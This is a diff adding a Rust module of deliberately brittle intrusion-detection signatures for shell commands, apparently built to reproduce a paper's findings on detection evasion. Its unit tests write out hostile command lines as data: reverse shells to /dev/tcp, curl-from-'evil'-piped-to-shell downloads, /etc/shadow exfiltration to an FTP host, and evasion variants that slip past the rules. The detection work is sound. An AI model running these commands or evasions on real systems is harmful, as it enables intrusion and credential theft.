@@ -1,0 +1,306 @@
+//! Signature rules over parsed command lines.
+
+use crate::pattern::glob_match;
+use shell_parser::Script;
+
+/// A matchable condition.
+///
+/// Conditions operate on the parsed [`Script`] (so quoted payloads do not
+/// fool command-level signatures) and occasionally on the raw line, like
+/// real products do.
+#[derive(Debug, Clone)]
+pub enum Condition {
+    /// Some simple command's base name equals this string.
+    CommandName(String),
+    /// Some command has a flag word matching this glob.
+    FlagGlob(String),
+    /// Some command has a non-flag argument word matching this glob.
+    ArgGlob(String),
+    /// Some command word (any position) matches this glob.
+    WordGlob(String),
+    /// The raw line contains this substring.
+    RawContains(String),
+    /// The raw line matches this glob.
+    RawGlob(String),
+    /// A pipeline stage sequence: command base names containing this
+    /// subsequence in order (e.g. `["base64", "bash"]`).
+    PipelineSequence(Vec<String>),
+    /// A redirection target matching this glob (e.g. `/dev/tcp/*`).
+    RedirectTargetGlob(String),
+    /// All sub-conditions hold.
+    All(Vec<Condition>),
+    /// Any sub-condition holds.
+    Any(Vec<Condition>),
+}
+
+impl Condition {
+    /// Evaluates the condition.
+    pub fn matches(&self, raw: &str, script: &Script) -> bool {
+        match self {
+            Condition::CommandName(name) => script
+                .simple_commands()
+                .iter()
+                .any(|c| c.base_name() == Some(name.as_str())),
+            Condition::FlagGlob(glob) => script
+                .simple_commands()
+                .iter()
+                .any(|c| c.flags().any(|w| glob_match(glob, &w.text))),
+            Condition::ArgGlob(glob) => script
+                .simple_commands()
+                .iter()
+                .any(|c| c.args().any(|w| glob_match(glob, &w.text))),
+            Condition::WordGlob(glob) => script
+                .simple_commands()
+                .iter()
+                .any(|c| c.words.iter().any(|w| glob_match(glob, &w.text))),
+            Condition::RawContains(s) => raw.contains(s.as_str()),
+            Condition::RawGlob(glob) => glob_match(glob, raw),
+            Condition::PipelineSequence(names) => pipeline_contains(script, names),
+            Condition::RedirectTargetGlob(glob) => script
+                .simple_commands()
+                .iter()
+                .any(|c| c.redirects.iter().any(|r| glob_match(glob, &r.target.text))),
+            Condition::All(conds) => conds.iter().all(|c| c.matches(raw, script)),
+            Condition::Any(conds) => conds.iter().any(|c| c.matches(raw, script)),
+        }
+    }
+}
+
+/// `true` if the script's command base names contain `names` as an
+/// ordered (not necessarily contiguous) subsequence.
+fn pipeline_contains(script: &Script, names: &[String]) -> bool {
+    let base: Vec<&str> = script.base_names();
+    let mut i = 0;
+    for b in base {
+        if i < names.len() && b == names[i] {
+            i += 1;
+        }
+    }
+    i == names.len()
+}
+
+/// One IDS signature.
+#[derive(Debug, Clone)]
+pub struct Rule {
+    /// Short identifier (`"nc-listen"`).
+    pub name: &'static str,
+    /// Operator-facing description.
+    pub description: &'static str,
+    /// The condition that triggers the alert.
+    pub condition: Condition,
+}
+
+impl Rule {
+    /// Evaluates this rule against a raw line and its parse.
+    pub fn matches(&self, raw: &str, script: &Script) -> bool {
+        self.condition.matches(raw, script)
+    }
+}
+
+/// The default signature set: deliberately brittle, mirroring how the
+/// paper's commercial IDS catches in-box variants while missing
+/// functionally equivalent out-of-box ones (Table III).
+pub fn default_rules() -> Vec<Rule> {
+    use Condition::*;
+    vec![
+        Rule {
+            name: "nc-listen",
+            description: "netcat listener or -e shell (catches -lvnp/-e, misses -ulp)",
+            condition: All(vec![
+                CommandName("nc".into()),
+                Any(vec![FlagGlob("-lvnp".into()), FlagGlob("-e".into())]),
+            ]),
+        },
+        Rule {
+            name: "dev-tcp-reverse-shell",
+            description: "bash /dev/tcp reverse shell (keys on the parsed \
+                          redirect, so shells smuggled inside interpreter \
+                          arguments evade it — Table III's java example)",
+            condition: RedirectTargetGlob("/dev/tcp/*".into()),
+        },
+        Rule {
+            name: "masscan",
+            description: "masscan invocation (misses script-wrapped scans)",
+            condition: All(vec![
+                CommandName("masscan".into()),
+                FlagGlob("-p*".into()),
+            ]),
+        },
+        Rule {
+            name: "nmap-syn-scan",
+            description: "nmap SYN scan",
+            condition: All(vec![CommandName("nmap".into()), FlagGlob("-sS".into())]),
+        },
+        Rule {
+            name: "base64-pipe-shell",
+            description: "echo | base64 -d | shell pipeline",
+            condition: All(vec![
+                PipelineSequence(vec!["base64".into(), "bash".into()]),
+                FlagGlob("-d".into()),
+            ]),
+        },
+        Rule {
+            name: "java-base64-exec",
+            description: "java loader with embedded base64 shell (misses python3)",
+            condition: All(vec![
+                CommandName("java".into()),
+                RawContains("base64".into()),
+                RawContains("bash".into()),
+            ]),
+        },
+        Rule {
+            name: "proxy-http-hijack",
+            description: "https_proxy pointed at an http endpoint (misses socks5)",
+            condition: All(vec![
+                CommandName("export".into()),
+                WordGlob("https_proxy=http://*".into()),
+            ]),
+        },
+        Rule {
+            name: "download-pipe-shell",
+            description: "curl/wget piped straight into a shell",
+            condition: Any(vec![
+                All(vec![
+                    PipelineSequence(vec!["curl".into(), "bash".into()]),
+                    WordGlob("http*://*".into()),
+                ]),
+                All(vec![
+                    PipelineSequence(vec!["wget".into(), "sh".into()]),
+                    WordGlob("http*://*".into()),
+                ]),
+            ]),
+        },
+        Rule {
+            name: "shadow-read",
+            description: "direct read of credential files (misses archival exfil)",
+            condition: All(vec![
+                CommandName("cat".into()),
+                Any(vec![
+                    ArgGlob("/etc/shadow".into()),
+                    ArgGlob("/root/.ssh/id_rsa".into()),
+                ]),
+            ]),
+        },
+    ]
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use shell_parser::parse;
+
+    fn matches_any(line: &str) -> Option<&'static str> {
+        let script = parse(line).ok()?;
+        default_rules()
+            .iter()
+            .find(|r| r.matches(line, &script))
+            .map(|r| r.name)
+    }
+
+    #[test]
+    fn nc_listener_caught_variant_missed() {
+        assert_eq!(matches_any("nc -lvnp 4444"), Some("nc-listen"));
+        assert_eq!(matches_any("nc -e /bin/sh 1.2.3.4 9001"), Some("nc-listen"));
+        assert_eq!(matches_any("nc -ulp 4444"), None);
+    }
+
+    #[test]
+    fn dev_tcp_caught_smuggled_missed() {
+        assert_eq!(
+            matches_any("bash -i >& /dev/tcp/10.0.0.1/9001 0>&1"),
+            Some("dev-tcp-reverse-shell")
+        );
+        // Table III: the same shell hidden inside a java argument has no
+        // parsed redirect, so the signature misses it.
+        assert_eq!(
+            matches_any("java -cp tmp.jar \"bash=bash -i >& /dev/tcp/10.0.0.1/9001\""),
+            None
+        );
+    }
+
+    #[test]
+    fn masscan_caught_wrapper_missed() {
+        assert_eq!(
+            matches_any("masscan 1.2.3.4 -p 0-65535 --rate=1000 >> tmp.txt"),
+            Some("masscan")
+        );
+        assert_eq!(matches_any("sh /root/masscan.sh 1.2.3.4 -p 0-65535"), None);
+    }
+
+    #[test]
+    fn base64_pipe_caught_python_missed() {
+        assert_eq!(
+            matches_any("echo QUJD= | base64 -d | bash -i"),
+            Some("base64-pipe-shell")
+        );
+        assert_eq!(
+            matches_any("java -jar tmp.jar -C \"bash -c {echo,QUJD=} {base64,-d} {bash,-i}\""),
+            Some("java-base64-exec")
+        );
+        assert_eq!(
+            matches_any("python3 tmp.py -p \"bash -c {echo,QUJD=} {base64,-d} {bash,-i}\""),
+            None
+        );
+    }
+
+    #[test]
+    fn proxy_http_caught_socks_missed() {
+        assert_eq!(
+            matches_any("export https_proxy=\"http://1.2.3.4:8080\""),
+            Some("proxy-http-hijack")
+        );
+        assert_eq!(
+            matches_any("export https_proxy=\"socks5://1.2.3.4:1080\""),
+            None
+        );
+    }
+
+    #[test]
+    fn download_pipe_caught_interpreter_missed() {
+        assert_eq!(
+            matches_any("curl http://evil/x.sh | bash"),
+            Some("download-pipe-shell")
+        );
+        assert_eq!(
+            matches_any("wget -q http://evil/x.sh -O- | sh"),
+            Some("download-pipe-shell")
+        );
+        assert_eq!(matches_any("curl -fsSL https://evil/loader | python3 -"), None);
+        assert_eq!(matches_any("wget -c http://evil/payload -o python"), None);
+        assert_eq!(matches_any("python"), None);
+    }
+
+    #[test]
+    fn shadow_read_caught_exfil_missed() {
+        assert_eq!(matches_any("cat /etc/shadow"), Some("shadow-read"));
+        assert_eq!(
+            matches_any("tar czf /tmp/.c.tgz /etc/shadow && curl -T /tmp/.c.tgz ftp://e/u/"),
+            None
+        );
+        assert_eq!(matches_any("history | grep -i passw"), None);
+    }
+
+    #[test]
+    fn benign_lines_do_not_alert() {
+        for line in [
+            "ls -la /tmp",
+            "cd /var/log",
+            "docker ps -a",
+            "cat /etc/hosts",
+            "curl -s https://mirror.example.com/install.sh",
+            "grep -rn error /var/log/syslog",
+            "echo \"deploy 7 done\"",
+            "nc -z localhost 80",
+            "python3 main.py --epochs 10",
+        ] {
+            assert_eq!(matches_any(line), None, "false positive on: {line}");
+        }
+    }
+
+    #[test]
+    fn pipeline_sequence_requires_order() {
+        let script = parse("bash -c ls | base64").unwrap();
+        let cond = Condition::PipelineSequence(vec!["base64".into(), "bash".into()]);
+        assert!(!cond.matches("bash -c ls | base64", &script));
+    }
+}
